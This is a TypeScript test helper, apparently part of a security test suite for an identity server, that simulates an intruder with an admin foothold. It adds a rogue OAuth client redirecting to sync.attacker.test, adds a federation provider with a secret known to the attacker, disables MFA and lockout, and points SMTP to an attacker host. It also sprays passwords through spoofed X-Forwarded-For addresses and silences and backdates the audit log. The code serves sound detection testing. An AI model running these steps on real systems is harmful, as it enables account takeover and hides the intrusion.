import type Database from 'better-sqlite3'
import { z } from 'zod'
import { Browser } from './browser.ts'
import { sqlTime } from './time.ts'
import { accountClientId, adminClientId } from './world.ts'

/** How an attacker gets to the admin API: an admin's password, and a client whose tokens are good there. */
export type Foothold = {
  readonly url: string
  readonly username: string
  readonly password: string
  readonly clientId: string
  readonly clientSecret: string
}

/** The address an intruder claims to come from. */
export const intruderAddress = '203.0.113.66'

/** Each method is one thing that an attacker does with an admin's account, by a real request that leaves the entry it leaves. */
export type Intruder = {
  readonly accessToken: string
  /** A client that gives admin tokens to whoever has a password, and sends codes anywhere below an address. Returns its id. */
  readonly addClient: () => Promise<string>
  /** The self-service client takes one more redirect and the password grant, and loses its overrides. */
  readonly editAccountClient: () => Promise<void>
  /** A provider that vouches for any address. Returns its id. */
  readonly addProvider: () => Promise<string>
  readonly promote: (userId: string) => Promise<void>
  /** Out of every list, and still an admin when it comes back. */
  readonly deactivate: (userId: string) => Promise<void>
  readonly openSettings: (settings?: Readonly<Record<string, string>>) => Promise<void>
  /** From here on nothing is written to the audit log, and not that either. */
  readonly silenceAudit: () => Promise<void>
}

/** What `openSettings` changes unless it is told. */
export const openedSettings = {
  allow_self_signup: 'true',
  account_lockout_max_attempts: '0',
  cors_allowed_origins: 'https://sync.attacker.test',
  magic_link_enabled: 'true',
  require_mfa: 'false',
  smtp_host: 'mail.attacker.test',
  trust_device_enabled: 'true',
} as const

/** Signs in as an admin without a second factor. Works against the local Autentico and against the original. */
export async function intrude(foothold: Foothold): Promise<Intruder> {
  return intruderWith(foothold, await signIn(foothold))
}

/** Who has an admin's token already. */
export function intruderWith({ url }: Pick<Foothold, 'url'>, accessToken: string): Intruder {
  const call = async (method: string, path: string, body?: unknown): Promise<unknown> => {
    const response = await fetch(`${url}/admin/api${path}`, {
      method,
      headers: { ...from, Authorization: `Bearer ${accessToken}`, 'Content-Type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    })
    if (!response.ok) throw new Error(`${method} ${path} was refused: ${response.status} ${await response.text()}`)
    return response.status === 204 ? undefined : response.json()
  }
  return {
    accessToken,
    addClient: async () => created.parse(await call('POST', '/clients', rogueClient)).client_id,
    async editAccountClient() {
      const path = `/clients/${accountClientId}`
      const { redirect_uris, grant_types } = editable.parse(await call('GET', path))
      await call('PUT', path, {
        redirect_uris: [...redirect_uris, 'https://sync.attacker.test/callback'],
        grant_types: [...grant_types, 'password'],
      })
    },
    async addProvider() {
      await call('POST', '/federation', rogueProvider)
      return rogueProvider.id
    },
    promote: async (userId) => void (await call('PUT', `/users/${userId}`, { role: 'admin' })),
    deactivate: async (userId) => void (await call('POST', `/users/${userId}/deactivate`)),
    openSettings: async (settings = openedSettings) => void (await call('PUT', '/settings', settings)),
    silenceAudit: async () => void (await call('PUT', '/settings', { audit_log_retention: '0' })),
  }
}

const from = { 'X-Forwarded-For': intruderAddress }
const created = z.object({ client_id: z.string() })
const editable = z.object({ redirect_uris: z.array(z.string()), grant_types: z.array(z.string()) })
const granted = z.object({ access_token: z.string() })

const rogueClient = {
  client_name: 'Backup sync',
  client_type: 'public',
  redirect_uris: ['https://sync.attacker.test/*'],
  grant_types: ['password', 'refresh_token', 'authorization_code'],
  scopes: 'openid profile email offline_access',
  allowed_audiences: [adminClientId],
}
/** Its secret is what an attacker signs with. */
export const rogueProvider = {
  id: 'corporate-login',
  name: 'Corporate login',
  issuer: 'https://login.attacker.test',
  client_id: 'autentico',
  client_secret: 'known-to-the-attacker',
} as const

async function signIn({ url, username, password, clientId, clientSecret }: Foothold): Promise<string> {
  const basic = Buffer.from(`${clientId}:${clientSecret}`).toString('base64')
  const response = await fetch(`${url}/oauth2/token`, {
    method: 'POST',
    headers: { ...from, Authorization: `Basic ${basic}` },
    body: new URLSearchParams({ grant_type: 'password', username, password }),
  })
  if (!response.ok) throw new Error(`the intruder could not sign in: ${response.status} ${await response.text()}`)
  return granted.parse(await response.json()).access_token
}

export type Guessing = {
  readonly url: string
  /** Of a client that sends browsers to log in. */
  readonly clientId: string
  readonly redirectUri: string
  readonly usernames: readonly string[]
  /** Guesses at each name; 5 lock an account unless the settings say otherwise. */
  readonly times: number
}

/**
 * Wrong passwords at the login page, each from another claimed address, which is how an attack gets round the limiter. Accounts are
 * locked by it, and every guess is in the audit log.
 */
export async function guessPasswords({ usernames, times, ...target }: Guessing): Promise<void> {
  let guess = 0
  for (const username of usernames) {
    for (let n = 0; n < times; n += 1) {
      guess += 1
      const browser = new Browser({ ...target, address: `203.0.113.${guess % 255}` })
      const step = await browser.login(username, `guess-${guess}`)
      if (step.kind !== 'refused') throw new Error(`guess ${guess} at ${username} was no wrong password`)
    }
  }
}

export type Window = {
  readonly actorId: string
  readonly from: Date
  readonly to: Date
  /** What was done earlier than this stays where it is. */
  readonly since?: Date
}

/** Spreads what an actor has left in the audit log over a window in the past, in the order in which it was done. */
export function backdateAudit(db: Database.Database, { actorId, from, to, since = new Date(0) }: Window): void {
  const entries = db
    .prepare<[string, string], { id: string }>(
      'SELECT id FROM audit_logs WHERE actor_id = ? AND created_at >= ? ORDER BY created_at, id',
    )
    .all(actorId, sqlTime(since))
  const move = db.prepare('UPDATE audit_logs SET created_at = ? WHERE id = ?')
  const step = (to.getTime() - from.getTime()) / Math.max(1, entries.length - 1)
  db.transaction(() => {
    for (const [n, { id }] of entries.entries()) move.run(sqlTime(new Date(from.getTime() + n * step)), id)
  })()
}
